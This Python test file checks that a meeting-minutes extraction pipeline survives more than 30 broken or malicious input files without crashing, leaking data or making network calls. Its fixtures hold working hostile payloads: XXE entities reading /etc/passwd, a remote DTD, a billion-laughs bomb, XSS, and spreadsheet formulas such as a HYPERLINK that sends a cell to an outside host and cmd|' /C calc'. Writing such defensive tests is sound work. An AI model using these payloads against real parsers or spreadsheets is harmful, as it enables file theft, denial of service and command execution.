"""Hostile input never stops a batch (issue 6).

A corpus of 30+ broken, odd or malicious files is generated here (tmp_path) and mixed with good
pages (dev pages written as .txt, and the shared seeds when present). The run must not crash; each
bad file becomes one errors.csv row and one stderr line naming it; the good files' rows are
exactly those of a run over the good files alone; parsing reaches no network, resolves no external
entity and runs nothing; exit codes say what happened (0 all read, 1 some failed, 2 usage).
"""
from __future__ import annotations

import gzip
import io
import os
import random
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import jsonlines
import pandas as pd
import pytest

from conftest import MODEL, REPO, SHARED
from pipeline.extract import extract
from pipeline.records import TABLES

pytestmark = pytest.mark.skipif(not (MODEL / "meta.json").exists(), reason="no trained model: run `make train`")

N_DEV = 5
PASSWD = Path("/etc/passwd")
SECRET = "HOSTILE-SECRET-7f3a9c"
ROWS = [t for t in TABLES if t != "errors"]


# ---------------------------------------------------------------------------------------------
# The corpus


def good_pages() -> dict[str, bytes]:
    pages: dict[str, bytes] = {}
    for n, rec in enumerate(jsonlines.open(REPO / "training_data" / "dev.jsonl")):
        if n == N_DEV:
            break
        pages[f"good/{rec['id']}.txt"] = rec["text"].encode("utf-8")
    if (SHARED / "seeds").is_dir():
        for seed in sorted((SHARED / "seeds").iterdir()):
            if seed.is_file():
                pages[f"good/seed-{seed.name}"] = seed.read_bytes()
    return pages


def _pdf(text: str, encrypt: str | None = None, image_only: bool = False) -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, encrypt=encrypt)
    if image_only:
        c.rect(100, 100, 200, 200, fill=1)
    else:
        for i, line in enumerate(text.splitlines()):
            c.drawString(72, 800 - 14 * i, line)
    c.showPage()
    c.save()
    return buf.getvalue()


def _docx(text: str) -> bytes:
    from docx import Document

    doc = Document()
    for line in text.splitlines():
        doc.add_paragraph(line)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def _docx_with_dtd(dtd: str, body: str) -> bytes:
    """A real Word file whose document.xml declares ``dtd`` and says ``body`` (entity references)."""
    src = zipfile.ZipFile(io.BytesIO(_docx("Minutes of the board\nThe board agreed the plan.")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                head, rest = data.split(b"?>", 1)
                data = (head + b"?>" + f"<!DOCTYPE w:document [{dtd}]>".encode()
                        + rest.replace(b"The board agreed the plan.", body.encode()))
            z.writestr(item, data)
    return out.getvalue()


MINUTES = ("Title: Chief Officer Board\nDate: 4 June 2024\nVenue: Headquarters\n"
           "1. Estates\nThe board agreed the estates strategy.\n"
           "ACC Foulds to report on the custody review by 30 September 2024.\n")


def hostile_files(folder: Path) -> tuple[dict[str, bytes], dict[str, str]]:
    """(name -> bytes, name -> the words its error must contain) ; files without an expected error
    are odd but readable."""
    secret = folder.parent / "secret.txt"
    secret.write_text(SECRET)
    rnd = random.Random(6)
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    remote = ('<html><head><link rel="stylesheet" href="http://198.51.100.7/x.css">'
              '<script src="http://198.51.100.7/x.js"></script><base href="http://198.51.100.7/">'
              '<meta http-equiv="refresh" content="0;url=http://198.51.100.7/"></head><body>'
              '<img src="http://198.51.100.7/pixel.gif"><iframe src="https://198.51.100.7/"></iframe>'
              '<style>@import url("http://198.51.100.7/i.css");</style><object data="http://198.51.100.7/o"></object>'
              '<p>Minutes of the board</p><p>The board agreed the estates strategy.</p>'
              '<p><a href="javascript:alert(1)">link</a><img src=x onerror="alert(1)"></p></body></html>')
    truncated = _pdf(MINUTES)
    files = {
        # empty, binary, or not text at all
        "bad/empty.txt": b"",
        "bad/blank.txt": b" \n\t\r\n   \n",
        "bad/random.txt": bytes(rnd.getrandbits(8) for _ in range(4096)),
        "bad/png-named.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200),
        "bad/gzip-named.txt": gzip.compress(MINUTES.encode() * 20),
        "bad/controls.txt": bytes(range(1, 9)) * 200,
        "bad/old-word.txt": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "bad/too-big.txt": b"",  # written below: one byte over the 50 MB limit
        # PDFs and Word files
        "bad/corrupt.pdf": b"%PDF-1.7\n1 0 obj <<>> garbage \x00\xff\nendobj\n%%EOF",
        "bad/truncated.pdf": truncated[: len(truncated) // 3],
        "bad/encrypted.pdf": _pdf(MINUTES, encrypt="s3cret"),
        "bad/image-only.pdf": _pdf("", image_only=True),
        "bad/zero.docx": b"",
        "bad/corrupt.docx": b"PK\x03\x04" + bytes(rnd.getrandbits(8) for _ in range(600)),
        "bad/not-word.docx": _zip({"hello.txt": b"not a word file"}),
        "bad/xml-bomb.docx": _docx_with_dtd(laughs, "Agreed &lol9; here."),
        # HTML
        "bad/only-scripts.html": b"<html><body><script>alert(1)</script><nav>Home</nav></body></html>",
        "bad/no-sentence-breaks.txt": ("word " * 260_000).encode(),  # one 1.3M-character 'sentence'
        # odd but readable: each must read without error and leak nothing
        "odd/cp1252.txt": MINUTES.replace("strategy", "strat\u00e9gie \u2013 \u00a35m").encode("cp1252"),
        "odd/utf16-bom.txt": MINUTES.encode("utf-16"),
        "odd/utf16le-no-bom.txt": MINUTES.encode("utf-16-le"),
        "odd/utf32-bom.txt": MINUTES.encode("utf-32"),
        "odd/latin1-mixed.txt": MINUTES.encode("utf-8") + "Caf\u00e9 na\u00efve\n".encode("latin-1"),
        "odd/malformed.html": b"<html><body><p>Minutes of the board<div><table><tr><td>a<td>b</tr><p>"
                              b"The board agreed the plan.</b></i></table></span><<<>>>&&&;</html></html>",
        "odd/deep-divs.html": b"<div>" * 30000 + b"<p>The board agreed the plan.</p>" + b"</div>" * 30000,
        "odd/deep-tables.html": b"<table><tr><td>" * 300 + b"The board agreed." + b"</td></tr></table>" * 300,
        "odd/billion-laughs.html": (f'<?xml version="1.0"?><!DOCTYPE html [{laughs}]>'
                                    "<html><body><p>Minutes of the board</p><p>&lol9;</p></body></html>").encode(),
        "odd/xxe.html": (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY sec SYSTEM "file://{secret}">'
                         '<!ENTITY pw SYSTEM "file:///etc/passwd"><!ENTITY % rem SYSTEM "http://198.51.100.7/x.dtd">'
                         '%rem;]><html><body><p>Minutes of the board</p><p>The board agreed &sec; and &pw;.</p>'
                         '</body></html>').encode(),
        "odd/xxe-as-text.txt": (f'<!DOCTYPE x [<!ENTITY pw SYSTEM "file:///etc/passwd">]>\n{MINUTES}&pw;\n').encode(),
        "odd/xxe.docx": _docx_with_dtd(f'<!ENTITY sec SYSTEM "file://{secret}">'
                                       '<!ENTITY pw SYSTEM "file:///etc/passwd">', "Agreed &sec; &pw; here."),
        "odd/remote.html": remote.encode(),
        "odd/remote-sniffed.txt": b"<!doctype html>" + remote.encode(),
        "odd/formulas.txt": (MINUTES + '=HYPERLINK("http://198.51.100.7/?"&A1,"Click") was agreed.\n'
                             "+cmd|' /C calc'!A0 to be noted.\n@SUM(1+1)*cmd|' /C calc'!A0\n"
                             '-2+3 "quoted", with commas,\nand\ttabs.\n').encode(),
        "odd/unicode.txt": ("Minutes \u202eevil\u202c \u200b\u200d \U0001f46e\u200d\u2640\ufe0f z\u0351\u0352\u0353\n"
                            + MINUTES.replace("estates", "\u0395\u03c3\u03c4\u03af\u03b1 \u4f1a\u8bae")).encode(),
        "odd/crlf-and-cr.txt": MINUTES.replace("\n", "\r\n").encode() + b"A line\rwith a lone CR.\r",
        "odd/=cmd,\"name\".txt": MINUTES.encode(),  # commas and quotes in a source name
        "=cmd.txt": MINUTES.encode(),  # a source name a spreadsheet would run
        "odd/many-lines.txt": "".join(f"Line {i} of filler text.\n" for i in range(3000)).encode(),
        # set up in mixed_run: deleted after the input list is built / unreadable
        "gone/vanishes.txt": MINUTES.encode(),
        "gone/denied.txt": MINUTES.encode(),
    }
    expected = {
        "bad/empty.txt": "empty", "bad/blank.txt": "empty", "bad/random.txt": "binary",
        "bad/png-named.txt": "binary", "bad/gzip-named.txt": "binary", "bad/controls.txt": "binary",
        "bad/old-word.txt": ".doc", "bad/too-big.txt": "larger than 50 MB",
        "bad/corrupt.pdf": "PDF", "bad/truncated.pdf": "PDF", "bad/encrypted.pdf": "encrypted",
        "bad/image-only.pdf": "no text layer", "bad/zero.docx": "empty", "bad/corrupt.docx": "Word",
        "bad/not-word.docx": "Word", "bad/xml-bomb.docx": "Word", "bad/only-scripts.html": "no visible text",
        "bad/no-sentence-breaks.txt": "characters", "gone/vanishes.txt": "not found",
        "gone/denied.txt": "permission denied",
    }
    return files, expected


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def write_corpus(folder: Path, files: dict[str, bytes]) -> None:
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    big = folder / "bad" / "too-big.txt"
    if big.exists():
        with open(big, "wb") as f:
            line = b"The board agreed the estates strategy and noted the report.\n"
            f.write(line * ((50 * 1024 * 1024) // len(line) + 1))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict:
    """Folders: 'mixed' (everything), 'alone' (the good pages), 'good+bad' (the good pages and the
    files that fail), 'readable' (every file that reads: good and odd); and the expected errors."""
    root = tmp_path_factory.mktemp("hostile")
    good = good_pages()
    hostile, expected = hostile_files(root / "mixed")
    assert len(hostile) >= 30
    failing = {k: v for k, v in hostile.items() if k in expected}
    readable = {k: v for k, v in hostile.items() if k not in expected}
    write_corpus(root / "mixed", {**good, **hostile})
    write_corpus(root / "alone", good)
    write_corpus(root / "good+bad", {**good, **failing})
    write_corpus(root / "readable", {**good, **readable})
    return {"root": root, "expected": expected}


# ---------------------------------------------------------------------------------------------
# Running with the network, process spawning and the unreadable file rigged


class NetworkUsed(AssertionError):
    pass


def _no_network(*args, **kwargs):
    raise NetworkUsed(f"parsing tried to reach the network: {args!r}")


def _no_exec(*args, **kwargs):
    raise AssertionError(f"parsing tried to run a program: {args!r}")


def mixed_run(nlp, folder: Path, out: Path, **kw):
    """Extract ``folder`` with sockets and subprocesses forbidden; 'gone/vanishes.txt' is deleted
    once the input list is built and 'gone/denied.txt' cannot be read. (summary, stderr lines)."""
    vanish, denied = folder / "gone" / "vanishes.txt", folder / "gone" / "denied.txt"
    if (folder / "gone").is_dir():
        vanish.write_bytes(MINUTES.encode())
    warnings: list[str] = []
    real_read_bytes = Path.read_bytes

    def read_bytes(self: Path) -> bytes:
        if self.name == "denied.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real_read_bytes(self)

    def progress(total: int):  # called after the input list is built, before anything is read
        vanish.unlink(missing_ok=True)
        return None

    with pytest.MonkeyPatch.context() as mp:
        for name in ("connect", "connect_ex", "sendto", "bind"):
            mp.setattr(socket.socket, name, _no_network)
        mp.setattr(socket, "create_connection", _no_network)
        mp.setattr(socket, "getaddrinfo", _no_network)
        mp.setattr(subprocess, "Popen", _no_exec)
        mp.setattr(os, "system", _no_exec)
        mp.setattr(Path, "read_bytes", read_bytes)
        summary = extract([folder], out, nlp, progress=progress, warn=warnings.append, **kw)
    return summary, warnings


@pytest.fixture(scope="module")
def mixed(nlp, corpus, tmp_path_factory):
    out = tmp_path_factory.mktemp("mixed-out")
    summary, warnings = mixed_run(nlp, corpus["root"] / "mixed", out)
    return out, summary, warnings


def run_folder(nlp, folder: Path, out: Path) -> Path:
    summary, _ = mixed_run(nlp, folder, out)
    assert summary.pages, folder
    return out


def read(out: Path, table: str) -> pd.DataFrame:
    return pd.read_csv(out / f"{table}.csv", dtype=str, keep_default_na=False)


# ---------------------------------------------------------------------------------------------
# Bad input never stops a batch


def test_every_bad_file_is_one_error_row_and_one_stderr_line(corpus, mixed):
    expected = corpus["expected"]
    out, summary, warnings = mixed
    errors = read(out, "errors")
    assert list(errors.columns) == ["source", "stage", "error"]
    assert sorted(errors["source"]) == sorted(expected), errors.to_string()
    for row in errors.itertuples():
        assert expected[row.source].lower() in row.error.lower(), (row.source, row.error)
        assert row.stage in ("read", "layout", "nlp", "link")
    assert len(warnings) == len(expected)
    for source, line in zip(errors["source"], warnings):
        assert "\n" not in line and line.startswith(f"minutes: {source}: "), line
    assert summary.pages == summary.inputs - len(expected)


def _same_rows(out: Path, ref: Path, sources: set[str]) -> None:
    for table in ROWS:
        both = read(out, table)
        mine = both[both["source"].isin(sources)].reset_index(drop=True)
        solo = read(ref, table)
        assert set(solo["source"]) <= sources, table
        assert len(solo) or table == "action_updates", table
        pd.testing.assert_frame_equal(mine, solo, obj=table)


def test_bad_files_cost_the_good_files_nothing(nlp, corpus, tmp_path):
    """Good pages with the failing files = good pages alone, row for row."""
    root = corpus["root"]
    alone = run_folder(nlp, root / "alone", tmp_path / "alone")
    with_bad = run_folder(nlp, root / "good+bad", tmp_path / "with-bad")
    _same_rows(with_bad, alone, set(read(alone, "meetings")["source"]))


def test_mixed_run_keeps_every_readable_files_rows(nlp, corpus, mixed, tmp_path):
    """The whole hostile corpus = its readable files alone, row for row. (Good pages beside odd but
    readable pages are compared with this run, not with the good pages alone: lines repeated on
    most pages of a batch are site furniture, so readable pages share one boilerplate count.)"""
    out, _, _ = mixed
    ref = run_folder(nlp, corpus["root"] / "readable", tmp_path)
    _same_rows(out, ref, set(read(ref, "meetings")["source"]))


def test_odd_but_readable_files_give_rows(mixed):
    out, _, _ = mixed
    meetings = read(out, "meetings")
    odd = set(meetings["source"][meetings["source"].str.startswith("odd/")])
    assert {"odd/cp1252.txt", "odd/utf16-bom.txt", "odd/utf16le-no-bom.txt", "odd/utf32-bom.txt",
            "odd/remote.html", "odd/xxe.html", "odd/xxe.docx", "odd/billion-laughs.html"} <= odd
    sentences = read(out, "sentences")
    text = " ".join(sentences["text"][sentences["source"] == "odd/cp1252.txt"])
    assert "strat\u00e9gie \u2013 \u00a35m" in text  # detected as cp1252, not assumed
    for source in ("odd/utf16-bom.txt", "odd/utf16le-no-bom.txt", "odd/utf32-bom.txt"):
        assert "The board agreed the estates strategy." in set(sentences["text"][sentences["source"] == source])


def test_no_external_entity_is_resolved_and_no_bomb_expands(mixed):
    out, _, _ = mixed
    leaked = [SECRET] + ([ln for ln in PASSWD.read_text().splitlines() if ln.startswith("root:")]
                         if PASSWD.exists() else [])
    for f in out.rglob("*"):
        if f.is_file():
            content = f.read_text(encoding="utf-8", errors="replace")
            for secret in leaked:
                assert secret not in content, (f, secret)
            assert "lollollollol" not in content, f
    assert sum(f.stat().st_size for f in out.rglob("*") if f.is_file()) < 5_000_000


def test_the_network_guard_is_live():
    """The monkeypatches mixed_run relies on do stop a connection (so the run above proves something)."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(socket.socket, "connect", _no_network)
        mp.setattr(socket, "getaddrinfo", _no_network)
        with pytest.raises(NetworkUsed):
            socket.create_connection(("198.51.100.7", 80), timeout=0.1)


def test_rerun_over_hostile_corpus_is_byte_identical(nlp, corpus, mixed, tmp_path):
    out, _, _ = mixed
    mixed_run(nlp, corpus["root"] / "mixed", tmp_path)
    for table in TABLES:
        assert (tmp_path / f"{table}.csv").read_bytes() == (out / f"{table}.csv").read_bytes(), table
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_formula_cells_from_the_input_are_neutralised(mixed):
    out, _, _ = mixed
    risky = ("=", "+", "-", "@", "\t", "\r")
    for table in TABLES:
        df = read(out, table)
        for col in df.columns:
            for value in df[col]:
                assert not value.startswith(risky), (table, col, value)
    sources = set(read(out, "meetings")["source"])
    assert "'=cmd.txt" in sources  # OWASP: a leading quote, so the cell is text
    assert 'odd/=cmd,"name".txt' in sources  # not at the start of the cell: kept as is


def test_folder_of_ten_thousand_small_files(nlp, tmp_path):
    """10,000 files, half empty and half one-liners: the run completes, one error per empty file."""
    folder = tmp_path / "many"
    folder.mkdir()
    n, n_text = 10_000, 5_000
    for i in range(n):
        body = f"Line {i}: the board noted report {i}.\n".encode() if i % (n // n_text) == 0 else b""
        (folder / f"p{i:05d}.txt").write_bytes(body)
    start = time.perf_counter()
    summary = extract([folder], tmp_path / "out", nlp, warn=lambda m: None)
    seconds = time.perf_counter() - start
    assert summary.inputs == n
    assert len(summary.errors) == n - n_text and summary.pages == n_text
    assert len(read(tmp_path / "out", "errors")) == n - n_text
    assert seconds < 120, f"{seconds:.0f}s for {n} files"


# ---------------------------------------------------------------------------------------------
# Exit codes, through the CLI as a user runs it


def minutes(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    res = subprocess.run([sys.executable, "-m", "pipeline", *args], capture_output=True, cwd=REPO, input=stdin)
    res.stdout, res.stderr = res.stdout.decode(), res.stderr.decode()
    return res


@pytest.fixture(scope="module")
def small_batch(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("small")
    (folder / "good.txt").write_text(MINUTES, encoding="utf-8")
    (folder / "empty.txt").write_bytes(b"")
    (folder / "broken.pdf").write_bytes(b"%PDF-1.4 nonsense")
    return folder


def test_exit_0_when_every_input_is_read(small_batch, tmp_path):
    res = minutes("extract", str(small_batch / "good.txt"), "--out", str(tmp_path))
    assert res.returncode == 0, res.stderr
    assert read(tmp_path, "errors").empty


def test_exit_1_when_some_inputs_fail(small_batch, tmp_path):
    res = minutes("extract", str(small_batch), "--out", str(tmp_path))
    assert res.returncode == 1, res.stderr
    lines = res.stderr.splitlines()
    assert [ln for ln in lines if "empty.txt" in ln] == ["minutes: empty.txt: empty file"]
    assert len([ln for ln in lines if "broken.pdf" in ln]) == 1
    assert any("2 of 3 inputs failed" in ln for ln in lines), res.stderr
    assert "Traceback" not in res.stderr
    assert sorted(read(tmp_path, "errors")["source"]) == ["broken.pdf", "empty.txt"]


def test_standard_input_exit_codes(tmp_path):
    res = minutes("extract", "-", "--out", str(tmp_path / "ok"), stdin=MINUTES.encode("utf-16"))
    assert res.returncode == 0, res.stderr
    assert read(tmp_path / "ok", "meetings")["source"].tolist() == ["<stdin>"]
    res = minutes("extract", "-", "--out", str(tmp_path / "bad"), stdin=b"\x00\x01\x02 binary")
    assert res.returncode == 1
    assert "minutes: <stdin>: binary content" in res.stderr


@pytest.mark.parametrize("case", ["bad-option", "missing-input", "out-under-a-file", "bad-format"])
def test_exit_2_on_usage_errors(small_batch, tmp_path, case):
    a_file = tmp_path / "plain-file"
    a_file.write_text("x")
    args = {
        "bad-option": ["extract", str(small_batch), "--no-such-option"],
        "missing-input": ["extract", str(tmp_path / "nope.txt"), "--out", str(tmp_path / "o")],
        "out-under-a-file": ["extract", str(small_batch / "good.txt"), "--out", str(a_file / "out")],
        "bad-format": ["extract", str(small_batch / "good.txt"), "--format", "docx", "--out", str(tmp_path / "o")],
    }[case]
    res = minutes(*args)
    assert res.returncode == 2, (res.returncode, res.stderr)
    assert "Traceback" not in res.stderr
    if case == "out-under-a-file":
        assert "not writable" in res.stderr
